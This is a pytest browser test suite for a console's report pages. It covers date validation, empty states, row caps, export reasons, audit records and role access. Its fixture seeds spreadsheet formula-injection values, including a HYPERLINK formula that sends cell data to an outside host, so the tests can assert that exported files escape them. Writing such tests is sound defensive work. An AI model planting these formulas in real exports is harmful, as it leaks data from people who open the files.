"""The reports in a browser: their days, nothing to show, a file with its reason, what is cut, and shops' texts that stay text."""

from __future__ import annotations

from pathlib import Path

import pytest

from audit.models import Record
from common import clock
from common.tests.test_sheets import is_live, xlsx_cells
from console.pages.reports import REPORTS
from console.tests.world import pay, seed_a_day
from tests.flows.days import moved_since, person_of, rows_now, sheets_of
from tests.flows.house import LOCALES

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("house-en")]

LIVE = '=HYPERLINK("https://shop.example/?"&A1,"order")'
EMPTY = {"en": "Nothing in this time.", "zh-hant": "此期間沒有資料。"}
WRONG = {
    "en": "From the earlier to the later day, 400 days at most.",
    "zh-hant": "起日須早於或等於迄日，最長 400 天。",
}
CAP = {"en": "Up to 50,000 rows.", "zh-hant": "最多 50,000 列。"}


@pytest.fixture(scope="module")
def day(house):
    """With an order number, a shop and a description that a spreadsheet would run."""
    found = seed_a_day(clock.now())
    payment = pay(clock.now(), order_number="=1+1")
    type(payment).objects.filter(pk=payment.pk).update(description=LIVE)
    payment.platform.name = "@SUM(1+1)"
    payment.platform.save()
    return str(found)


@pytest.fixture(params=LOCALES)
def supervisor(request, browser, house):
    person = person_of(browser, house, "supervisor", request.param)
    yield person
    person.guest.context.close()


@pytest.fixture
def english(browser, house):
    person = person_of(browser, house, "supervisor")
    yield person
    person.guest.context.close()


def show(person, name, day):
    person.open("/console/reports/")
    person.press(f"a[href='/console/reports/{name}/']")
    for one in person.page.locator("form.filters input[type=date]").all():
        one.fill(day)
    person.press("form.filters button")


def take(person, kind, reason) -> Path:
    person.fill(kind=kind, reason=reason)
    with person.page.expect_download() as download:
        person.page.locator("#file button").click()
    return Path(download.value.path())


@pytest.mark.parametrize("name", REPORTS)
def test_a_report_is_found_shown_and_empty_where_nothing_was(supervisor, day, name):
    language = supervisor.guest.language
    show(supervisor, name, day)
    assert supervisor.page.locator("table.rows tbody tr").count() > 0
    assert CAP[language] in supervisor.text("#file")

    show(supervisor, name, "2001-01-01")

    assert EMPTY[language] in supervisor.text()
    assert supervisor.page.locator("table.rows").count() == 0


def test_days_the_wrong_way_round_are_said_beside_the_form(supervisor, day):
    supervisor.open("/console/reports/complaints/?first=2026-06-08&last=2026-06-01")

    assert WRONG[supervisor.guest.language] in supervisor.text()
    assert supervisor.page.locator("table.rows, #file").count() == 0


def test_no_file_without_a_reason_also_where_the_browser_does_not_mind(supervisor, day):
    show(supervisor, "payments", day)
    before = rows_now()
    supervisor.page.locator("#file form").evaluate("one => { one.noValidate = true; }")

    supervisor.fill(reason="x")
    supervisor.press("#file button")

    assert supervisor.page.locator("#file .error").count() == 1
    assert supervisor.page.locator("#file [name=reason]").input_value() == "x"
    assert supervisor.page.locator(".error-summary, [role=alert]").count() > 0
    assert moved_since(before) == []
    assert not Record.objects.filter(action="report.exported", by=supervisor.by).exists()
    supervisor.press("form.language button")
    assert supervisor.path == "/console/reports/payments/file/"
    assert supervisor.page.locator("#file, .empty").count() > 0


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("name", REPORTS)
def test_a_file_says_whose_it_is_and_holds_no_live_cell(english, day, name, kind):
    show(english, name, day)

    file = take(english, kind, "=the board's meeting")

    if kind == "csv":
        cells = [cell for row in sheets_of(file.read_text(encoding="utf-8-sig")) for cell in row]
    else:
        found = xlsx_cells(file.read_bytes())[1]
        assert [cell for cell in found if cell[4]] == []
        cells = [text for _, _, of_kind, text, _ in found if of_kind == "inlineStr"]
    assert [cell for cell in cells if is_live(cell)] == []
    assert any(english.by in cell for cell in cells)
    assert any("=the board's meeting" in cell for cell in cells)
    if name == "payments":
        assert "'=1+1" in cells
        assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    kept = Record.objects.get(action="report.exported", by=english.by)
    assert (kept.subject, kept.role, kept.reason) == (name, "supervisor", "=the board's meeting")


def test_what_the_screen_leaves_out_is_said_and_stands_in_the_file(english, day, monkeypatch):
    monkeypatch.setattr("console.pages.reports._SHOWN_MAX", 2)
    show(english, "payments", day)

    assert english.page.locator("table.rows tbody tr").count() == 2
    assert "The first 2 rows; the file has more." in english.text()
    rows = [row for row in sheets_of(take(english, "csv", "the whole day").read_text(encoding="utf-8-sig")) if row]
    assert len([row for row in rows if row[0].startswith("PAY-")]) > 2


def test_a_file_that_is_cut_says_so_on_its_first_line(english, day, monkeypatch):
    from console.pages import reports_money

    rows = reports_money.rows
    monkeypatch.setattr("console.pages.reports.REPORTS", REPORTS | {"payments": cut_short(rows)})
    show(english, "payments", day)

    first = next(iter(sheets_of(take(english, "csv", "the whole day").read_text(encoding="utf-8-sig"))))

    assert "Cut after 50,000 rows: there were more." in first[0]


def cut_short(rows):
    """The report of payments with room for two."""
    from dataclasses import replace

    return replace(REPORTS["payments"], tables=lambda period: rows(period, most=2))


@pytest.mark.parametrize(
    ("role", "sees", "takes"), [("operator", True, False), ("agent", False, False), ("auditor", True, True)]
)
def test_who_reads_reports_and_who_takes_them(browser, house, day, role, sees, takes):
    person = person_of(browser, house, role)
    assert person.type_address("/console/reports/daily/") == (200 if sees else 403)
    assert (person.page.locator("#file").count() == 1) is takes
    assert (person.page.locator("text=Ask for rows with unmasked numbers").count() == 1) is False

    asked = {"first": day, "last": day, "reason": "the daily meeting", "kind": "csv"}
    person.open("/console/account/")
    assert person.send("/console/reports/daily/file/", asked).status == (200 if takes else 403)

    assert Record.objects.filter(action="report.exported", by=person.by).exists() is takes
    person.guest.context.close()
